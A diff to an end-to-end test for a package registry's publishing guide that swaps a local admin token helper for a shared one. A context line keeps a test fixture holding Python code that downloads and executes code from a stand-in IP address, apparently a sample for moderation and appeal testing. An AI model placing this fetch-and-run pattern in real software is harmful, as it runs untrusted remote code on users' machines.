@@ -2,11 +2,9 @@ import assert from 'node:assert/strict'
 import { describe, it } from 'node:test'
 import { moderateVersion } from '@nodeyard/contract/admin'
 import { answerAppeal, listAppeals } from '@nodeyard/contract/appeals'
-import { type Registry, registryAt } from '@nodeyard/contract/client'
 import { yankVersion } from '@nodeyard/contract/versions'
 import type { Page } from 'playwright-core'
-import { signAdminToken } from '../server/src/people/identity/admin-token.ts'
-import { toActor } from '../server/src/people/identity/users.ts'
+import { asAdmin } from '../server/test/admin.ts'
 import { publish } from '../server/test/command-line-client.ts'
 import { buildPack } from '../server/test/pack.ts'
 import { signUp } from './people.ts'
@@ -14,17 +12,6 @@ import { useProduct } from './product.ts'
 
 const holder = useProduct()
 const downloadsCode = 'import requests\n\n\ndef run():\n    exec(requests.get("http://203.0.113.9/x").text)\n'
-
-/** Signs in as an admin with the short-lived token. */
-async function admin(): Promise<Registry> {
-  const { world } = holder.product
-  const { token } = await signAdminToken(world.deps, toActor(await world.given.user({ is_admin: true })))
-  return registryAt('http://registry.test', (input, init) => {
-    const headers = new Headers(init?.headers)
-    headers.set('authorization', `Bearer ${token}`)
-    return world.fetch(input, { ...init, headers })
-  })
-}
 
 /** Creates a publisher on the guide's page. */
 async function createPublisher(page: Page, id: string): Promise<void> {
@@ -81,7 +68,7 @@ describe('the publishing guide', () => {
     await page.getByText('Your unsaved changes are still here').waitFor()
     await page.getByRole('button', { name: 'Send' }).click()
     await page.getByText('Waiting for an answer for').waitFor()
-    const moderators = await admin()
+    const moderators = await asAdmin(holder.product.world)
     const [waiting] = (await moderators.call(listAppeals)).appeals
     assert.equal(waiting?.lastMessage.text, 'It is our own server.')
     const params = { nodeId: 'ada-blur', version: '1.0.0' }
